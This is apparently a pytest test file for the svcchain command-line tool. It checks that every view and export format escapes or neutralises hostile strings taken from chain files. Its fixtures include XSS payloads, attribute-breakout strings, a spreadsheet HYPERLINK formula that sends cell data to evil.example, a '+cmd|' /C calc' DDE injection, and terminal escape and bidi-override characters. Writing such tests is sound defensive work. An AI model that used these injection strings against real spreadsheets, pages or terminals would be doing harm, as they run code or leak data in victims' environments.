"""Hostile names: every view and every format shows chain-file strings as text, never as markup.

tests/views/hostile-names/ is an organisation whose names, texts, results,
targets and roles - and the references, which need not be declared ids -
hold <script>, quotes, backticks, pipes, Mermaid arrows, newlines, terminal
escapes, bidi overrides and spreadsheet formulas.  Each test renders one view
through the command line and checks the output with tests/views/checks.py.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from typer.testing import CliRunner
from views.checks import check_csv, check_dot, check_html, check_markdown, check_mermaid, check_terminal

from svcchain.cli import app
from svcchain.views.escape import one_line

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = "tests/views/hostile-names"

SERVICE_NAME = "Evil \" --> B[pwned] %% `code` | pipe <script>alert('name')</script>"
NEED_TEXT = "```\n<script>alert('need')</script>\n``` & \"quotes\" 'single' | pipe --> arrow"
RESULT = "-2+3 <b onmouseover=alert(6)>result</b> ]] --> n9"
TARGET = '" onmouseover="alert(7)" data-x="'
GHOST_OWNER = "<img src=x onerror=alert(8)>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TERMINAL_NAME = "-2+3 \x1b[31mred\x1b[0m \u202eevil"


@pytest.fixture(autouse=True)
def _at_root(monkeypatch):
    monkeypatch.chdir(ROOT)


def run(*args: str, code: int = 0) -> str:
    result = CliRunner().invoke(app, [*args, "--isolated"])
    assert result.exit_code == code, (result.stdout, result.stderr)
    return result.stdout


def test_the_fixture_holds_what_the_tests_are_about():
    data = json.loads(run("graph", HOSTILE, "--format", "json"))
    names = {node.get("name") for node in data["nodes"]} | {node.get("owner") for node in data["nodes"]}
    assert GHOST_OWNER in names
    texts = {node.get("text") for node in data["nodes"]}
    assert NEED_TEXT in texts  # the JSON keeps the raw value: it is data, escaped by the JSON encoder
    assert SERVICE_NAME in {service["name"] for service in data["graph"]["services"]}
    owners = json.loads(run("owners", HOSTILE, "--format", "json"))["owners"]
    assert TERMINAL_NAME in {row["name"] for row in owners}


# --------------------------------------------------------------------------- terminal views


@pytest.mark.parametrize(
    "args",
    [
        ("show", HOSTILE),
        ("show", "svc.evil_1", HOSTILE),
        ("trace", HOSTILE),
        ("trace", "svc.evil_1", HOSTILE, "--need", "need--x"),
        ("owners", HOSTILE),
        ("impact", "trent", HOSTILE),
        ("impact", "solo.team", HOSTILE),
        ("impact", "eve.X_1", HOSTILE),
        ("impact", "--all", HOSTILE),
    ],
)
def test_terminal_views_print_plain_text(args):
    check_terminal(run(*args))


def test_the_terminal_shows_markup_as_text():
    out = run("show", "svc.evil_1", HOSTILE)
    assert "<script>alert('name')</script>" in " ".join(out.split())
    assert GHOST_OWNER in " ".join(out.split())
    assert "-2+3 [31mred[0m evil" in run("show", "svc.evil_1", HOSTILE)


def test_an_unknown_hostile_owner_is_a_usage_error_with_a_clean_message():
    result = CliRunner().invoke(app, ["impact", GHOST_OWNER + "\x1b[2J", HOSTILE, "--isolated"])
    assert result.exit_code == 2
    check_terminal(result.stderr)
    assert "unknown person or team '<img src=x onerror=alert(8)>[2J'" in result.stderr


# --------------------------------------------------------------------------- diagrams


@pytest.mark.parametrize("selection", [(), ("svc.evil_1",)])
def test_mermaid_labels_hold_only_entity_codes(selection):
    out = run("graph", *selection, HOSTILE, "--format", "mermaid")
    labels = check_mermaid(out)
    joined = "\n".join(labels)
    assert "#lt;script#gt;alert('name')#lt;/script#gt;" in joined
    assert "#quot;" in joined and "#96;" in joined and "#124;" in joined and "--#gt;" in joined


@pytest.mark.parametrize("selection", [(), ("svc.evil_1",)])
def test_dot_strings_are_closed_and_escaped(selection):
    out = run("graph", *selection, HOSTILE, "--format", "dot")
    strings = check_dot(out)
    assert '"Evil \\" --> B[pwned] %% `code` | pipe <script>alert(\'name\')</script> (svc.evil_1)"' in strings
    assert any('Solo step \\\\ back\\\\slash \\\\\\"escaped' in string for string in strings)
    assert "\\n" in out  # the line breaks in labels are DOT's escapes


def test_graphml_is_well_formed_xml_with_the_text_as_text():
    out = run("graph", HOSTILE, "--format", "graphml")
    root = ET.fromstring(out.encode("utf-8"))
    values = {element.text for element in root.iter() if element.tag.endswith("data")}
    assert one_line(NEED_TEXT) in values and one_line(RESULT) in values
    assert not [element for element in root.iter() if "script" in element.tag.lower()]


def test_graph_json_keeps_the_raw_values():
    data = json.loads(run("graph", "svc.evil_1", HOSTILE, "--format", "json"))
    measures = [measure for node in data["nodes"] for measure in node.get("measures", [])]
    assert {"name": "@measure <script>", "target": TARGET} in measures


# --------------------------------------------------------------------------- owners


def test_owners_csv_neutralises_formulas():
    rows = check_csv(run("owners", HOSTILE, "--format", "csv"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1) <script>alert('role')</script>" in cells
    assert "'-2+3 [31mred[0m evil" in cells  # escape and bidi override dropped, formula neutralised
    assert "'+SUM(A1:A9)" not in cells  # results are not in the ownership matrix


def test_owners_markdown_and_json():
    check_markdown(run("owners", HOSTILE, "--format", "markdown"))
    json.loads(run("owners", HOSTILE, "--format", "json"))


# --------------------------------------------------------------------------- JSON views


@pytest.mark.parametrize(
    "args",
    [
        ("trace", HOSTILE, "--format", "json"),
        ("impact", "trent", HOSTILE, "--format", "json"),
        ("impact", "--all", HOSTILE, "--format", "json"),
    ],
)
def test_json_views_are_valid_json(args):
    json.loads(run(*args))


# --------------------------------------------------------------------------- the report


def test_the_html_report_has_no_element_or_attribute_a_chain_file_wrote(tmp_path):
    target = tmp_path / "report.html"
    run("report", HOSTILE, "-o", str(target))
    document = target.read_text(encoding="utf-8")
    text = check_html(document)
    flat = " ".join(text.split())
    for hostile in (SERVICE_NAME, NEED_TEXT, RESULT, TARGET, GHOST_OWNER, FORMULA_NAME):
        assert one_line(hostile) in flat, f"{hostile!r} is not shown as text"
    assert "\x1b" not in document and "\u202e" not in document
    assert "&lt;script&gt;" in document


def test_the_markdown_report_has_no_markup_a_chain_file_wrote():
    out = run("report", HOSTILE, "--format", "markdown")
    check_markdown(out)
    assert "&lt;script&gt;alert('name')&lt;/script&gt;" in out
    assert "\\`code\\` \\| pipe" in out
